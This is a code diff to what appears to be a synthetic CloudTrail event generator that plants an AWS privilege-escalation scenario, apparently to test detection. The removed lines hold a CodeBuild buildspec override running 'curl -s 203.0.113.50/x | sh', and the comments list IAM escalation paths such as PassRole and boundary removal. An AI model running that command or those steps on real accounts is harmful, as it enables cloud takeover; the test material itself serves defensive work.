@@ -1003,8 +1003,8 @@ function buildHijack(step: (i: number) => Ctx, write: Plant["write"]): Ev[] {
  * role's managed policy granting every action, puts an inline policy allowing iam:PassRole on
  * its own role, removes its own role's permissions boundary and adds mallory to the Admins
  * group; then it hands the prod-admin role to compute by hand: the admin instance profile put
- * on a running instance, a Glue dev endpoint with its SSH key, a SageMaker notebook opened, a
- * CodeBuild build with its own buildspec and a CloudFormation stack with the role.
+ * on a running instance, a Glue dev endpoint with its SSH key, a SageMaker notebook opened and
+ * a CloudFormation stack with the role (CodeBuild is build-and-registry's, incident 22).
  */
 function privilegeEscalation({ at, ctx, write, ec2Region }: Plant): Ev[] {
   const step = (i: number) => ctx(at(0.83, i * 15_000), ec2Region);
@@ -1046,11 +1046,6 @@ function privilegeEscalation({ at, ctx, write, ec2Region }: Plant): Ev[] {
     }),
     write("sagemaker.amazonaws.com", "CreatePresignedNotebookInstanceUrl", {
       notebookInstanceName: "scratch",
-    }),
-    write("codebuild.amazonaws.com", "StartBuild", {
-      projectName: "web-app",
-      buildspecOverride:
-        "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s 203.0.113.50/x | sh",
     }),
     write("cloudformation.amazonaws.com", "CreateStack", {
       stackName: "scratch",
